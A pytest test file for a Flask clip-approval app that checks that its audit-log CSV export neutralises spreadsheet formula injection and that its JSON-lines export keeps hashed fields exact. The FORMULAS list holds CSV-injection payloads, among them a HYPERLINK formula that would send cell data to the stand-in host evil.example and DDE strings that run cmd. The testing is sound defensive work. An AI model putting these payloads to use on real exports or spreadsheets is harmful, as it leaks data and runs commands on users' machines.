"""The audit log's CSV cannot run a formula in a spreadsheet; its JSON lines stay exact.

OWASP's rule for CSV injection: a text cell starting with = + - @, a tab or a carriage return
gets a ' in front. The JSON-lines export keeps every field as it was hashed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable

import pytest
from flask import Flask
from flask.testing import FlaskClient

from approval import audit
from approval.extensions import db
from approval.models import Clip, ClipStatus, Role, User, Verdict
from approval.ops import claims, workflow
from tests.plugins.web import SignIn

MakeUser = Callable[..., User]
MakeClip = Callable[..., Clip]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _rejected_with(make_clip: MakeClip, make_user: MakeUser, reason: str) -> Clip:
    clip = make_clip(ClipStatus.WAITING)
    reviewer = make_user(Role.REVIEWER)
    claims.claim(clip, reviewer)
    workflow.decide(clip, reviewer, Verdict.REJECT, category="quality", reason=reason)
    db.session.commit()
    return clip


def _csv_reasons(text: str) -> list[str]:
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [row["reason"] for row in rows if row["action"] == "clip.rejected"]


@pytest.mark.parametrize("reason", FORMULAS)
def test_a_csv_cell_that_would_be_a_formula_starts_with_a_quote(
    app: Flask, make_clip: MakeClip, make_user: MakeUser, reason: str
) -> None:
    _rejected_with(make_clip, make_user, reason)
    text = "".join(audit.export(audit.filtered(), "csv"))
    assert _csv_reasons(text) == ["'" + reason]


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1"])
def test_a_leading_tab_or_carriage_return_gets_a_quote_too(text: str) -> None:
    # Reasons are stripped before they are stored; other fields might not be.
    assert audit.spreadsheet_safe(text) == "'" + text


def test_numbers_and_empty_cells_are_not_text_to_neutralise() -> None:
    assert [audit.spreadsheet_safe(v) for v in (-1, None, "")] == [-1, None, ""]


def test_an_ordinary_csv_cell_is_left_as_it_is(
    app: Flask, make_clip: MakeClip, make_user: MakeUser
) -> None:
    _rejected_with(make_clip, make_user, "Too blurry; see 0:03 - the face")
    text = "".join(audit.export(audit.filtered(), "csv"))
    assert _csv_reasons(text) == ["Too blurry; see 0:03 - the face"]


def test_the_admin_pages_csv_download_is_neutralised(
    client: FlaskClient,
    signed_in: SignIn,
    admin: User,
    make_clip: MakeClip,
    make_user: MakeUser,
) -> None:
    _rejected_with(make_clip, make_user, FORMULAS[0])
    signed_in(admin)
    response = client.get("/admin/audit/export.csv")
    assert response.status_code == 200
    assert _csv_reasons(response.get_data(as_text=True)) == ["'" + FORMULAS[0]]


def test_the_jsonl_export_keeps_the_text_exact_and_its_hashes_check(
    app: Flask, make_clip: MakeClip, make_user: MakeUser
) -> None:
    for reason in FORMULAS:
        _rejected_with(make_clip, make_user, reason)
    lines = [json.loads(line) for line in audit.export(audit.filtered(), "jsonl")]
    previous = audit.GENESIS_HASH
    for line in lines:
        fields = {key: value for key, value in line.items() if key not in ("id", "hash")}
        recomputed = hashlib.sha256(audit.canonical_json(fields).encode()).hexdigest()
        assert (line["prev_hash"], recomputed) == (previous, line["hash"])
        previous = line["hash"]
    assert previous == audit.head_hash()
    assert [line["reason"] for line in lines if line["action"] == "clip.rejected"] == FORMULAS
